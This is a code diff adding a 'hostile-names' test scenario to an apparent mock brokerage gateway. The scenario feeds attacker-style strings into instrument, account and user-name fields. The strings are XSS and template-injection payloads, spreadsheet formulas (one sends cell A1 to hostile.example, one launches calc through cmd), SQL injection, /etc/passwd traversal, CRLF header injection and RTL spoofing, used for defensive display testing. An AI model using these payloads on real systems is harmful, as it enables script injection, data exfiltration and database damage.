@@ -142,3 +142,57 @@ def liquidated(state: GatewayState) -> None:
         if row.asset != "FUT":
             account.cash[row.currency].balance += row.value
     account.held.clear()
+
+
+# Names as an attacker would choose them: each is only a text, wherever it is shown.
+HOSTILE = (
+    "<img src=x onerror=alert(1)>",
+    '"><script>alert(2)</script>',
+    "</script><script>alert(3)</script>",
+    "' onmouseover=alert(4) x='",
+    '" autofocus onfocus="alert(5)',
+    "</textarea></title></svg><svg onload=alert(6)>",
+    "&lt;script&gt;alert(7)&lt;/script&gt;",
+    "&amp;lt;b&amp;gt;",
+    '<a href="javascript:alert(8)">javascript:alert(8)</a>',
+    '<i hx-get="/hostile" hx-trigger="load">hx</i>',
+    '<form action="https://hostile.example/"><button>Sync</button>',
+    '<base href="https://hostile.example/"><link rel=stylesheet href=//hostile.example/x>',
+    '<meta http-equiv="refresh" content="0;url=https://hostile.example/">',
+    "{{ 7*7 }}{% raw %}${7*7}#{7*7}%7B%7B",
+    '=HYPERLINK("https://hostile.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "＝1+1",
+    "\u202egnp.exe\u202c\u200b\u200f",
+    "A\x00B\x1b[31mC\r\nSet-Cookie: a=b",
+    "'; DROP TABLE holding; --",
+    "%s%n%00%0d%0a../../../etc/passwd",
+    "e\u0301\u0327\u0489" * 20,
+    "👩‍👩‍👧‍👦🏳️‍🌈",
+    "W" * 300,
+)
+NAMED = ("ticker", "name", "fullName", "contractDesc", "description", "undSym", "listingExchange")
+
+
+def _hostile(row: Any) -> Any:
+    if row.get("assetClass") != "STK":
+        return row
+    name = HOSTILE[int(row["conid"]) % len(HOSTILE)]
+    return {**row, **{field: name for field in NAMED if field in row}}
+
+
+@scenario("hostile-names", "ready")
+def hostile_names(state: GatewayState) -> None:
+    """Names of instruments, accounts and the user carry markup, scripts and formulas."""
+
+    def titled(row: Any) -> Any:
+        title = HOSTILE[len(row["id"]) % len(HOSTILE)]
+        return {**row, "accountTitle": title, "displayName": HOSTILE[0], "type": HOSTILE[1]}
+
+    on(state, "/positions/", lambda rows: [_hostile(row) for row in rows])
+    on(state, "/portfolio2/", lambda rows: [_hostile(row) for row in rows])
+    on(state, "/trsrv/secdef", lambda body: {"secdef": [_hostile(r) for r in body["secdef"]]})
+    on(state, "/portfolio/accounts", lambda rows: [titled(row) for row in rows])
+    on(state, "/sso/validate", lambda body: {**body, "USER_NAME": HOSTILE[1]})
